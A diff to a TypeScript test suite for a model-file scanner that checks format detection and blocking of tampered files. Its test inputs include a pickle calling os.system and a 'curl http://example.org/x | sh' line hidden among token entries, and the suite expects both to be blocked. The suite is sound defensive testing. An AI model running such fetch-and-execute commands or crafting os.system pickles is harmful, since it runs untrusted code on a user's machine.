@@ -24,7 +24,6 @@ const FILES: readonly (readonly [format: string, name: string, bytes: Buffer])[]
   ['fasttext', 'lid.bin', fasttextFile],
   ['fasttext', 'lid.ftz', fasttextQuantised],
   ['tiktoken', 'tokenizer.model', tiktokenFile],
-  ['tiktoken', 'qwen.tiktoken', tiktokenFile.subarray(0, -1)],
   ['word2vec', 'vectors.bin', word2vecFile],
   ['faiss', 'index.faiss', faissFiles.flat],
   ['faiss', 'index.faiss', faissFiles.mapped],
@@ -33,6 +32,8 @@ const FILES: readonly (readonly [format: string, name: string, bytes: Buffer])[]
   ['llama2c', 'stories.bin', llama2cFile()],
 ];
 
+const WITHOUT_MAGIC: ReadonlySet<string> = new Set(['llama2c', 'tiktoken']);
+
 describe.each(FILES)('%s in %s', (format, name, bytes) => {
   test('passes when every byte has its place', async () => {
     expect((await factsOf(bytes)).format).toBe(format);
@@ -40,9 +41,11 @@ describe.each(FILES)('%s in %s', (format, name, bytes) => {
   });
 
   test('is blocked with something to run behind it', async () => {
-    // Without a magic number the length alone tells what it is, so that a longer file is something else.
+    // Without a magic number the whole tells what it is, so that a longer file is something else.
     for (const tail of [callPickle('os', 'system'), zipOf([{ name: 'a.py', data: raw('1') }])])
-      expect((await judged(raw(bytes, tail), name)).verdict).toMatch(format === 'llama2c' ? /review|block/ : /block/);
+      expect((await judged(raw(bytes, tail), name)).verdict).toMatch(
+        WITHOUT_MAGIC.has(format) ? /review|block/ : /block/,
+      );
   });
 
   test('does not pass when it is cut short or longer', async () => {
@@ -60,4 +63,9 @@ test('a variable of another length than its shape is no layout', async () => {
 test('counts that no file holds end the reading', async () => {
   for (const head of ['IxF2', 'lmgg', 'tjgg'])
     expect((await judged(raw(head, Buffer.alloc(64, 0xff), u32(0)), 'model.bin')).verdict).toBe('review');
+});
+
+test('what a shell runs among tokens is no list of tokens', async () => {
+  const { verdict } = await judged('AAAA 0\nBBBB 1\nCCCC 2\ncurl http://example.org/x | sh\n', 'run.sh');
+  expect(verdict).toBe('block');
 });
